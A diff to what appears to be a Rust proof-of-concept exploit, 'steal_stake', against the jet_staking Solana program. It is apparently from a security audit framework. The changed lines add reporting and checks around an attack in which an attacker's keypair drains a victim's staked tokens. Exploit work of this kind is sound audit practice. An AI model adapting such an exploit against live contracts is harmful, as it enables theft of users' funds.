@@ -3,11 +3,13 @@ mod framework;
 use framework::{clone_keypair, Framework};
 use std::error::Error;
 
-use anchor_client::solana_sdk::program_pack::Pack;
 use anchor_lang::AccountDeserialize;
 
 use jet_staking::Amount;
-use poc_framework_osec::{solana_sdk::signer::Signer, Environment};
+use poc_framework_osec::{
+    solana_sdk::{program_pack::Pack, signer::Signer},
+    Environment,
+};
 
 fn main() -> Result<(), Box<dyn Error>> {
     steal_stake()?;
@@ -19,6 +21,7 @@ fn steal_stake() -> Result<(), Box<dyn Error>> {
     println!("stealing staked tokens..");
 
     let mut test_env = Framework::new()?;
+    test_env.report_as("steal_stake");
     let attacker = clone_keypair(&test_env.attacker);
     let victim = clone_keypair(&test_env.victim);
 
@@ -133,7 +136,7 @@ fn steal_stake() -> Result<(), Box<dyn Error>> {
             test_env.add_stake(&attacker, max_deposit_amt)?;
 
             // experimentally confirmed that we don't need to transfer any tokens actually
-            assert!(max_transfer_amt == 0);
+            assert!(test_env.check("no transfer needed", max_transfer_amt == 0));
             test_env.mint_tokens(
                 test_env.vault_token_mint.pubkey(),
                 &clone_keypair(&test_env.pool_authority),
@@ -183,5 +186,8 @@ fn steal_stake() -> Result<(), Box<dyn Error>> {
     println!("start stake amt: {:?}", start_amt);
     println!("ending stake amt: {:?}", stake_pool_token_cnt);
 
+    println!();
+    test_env.profile.print_report();
+
     Ok(())
 }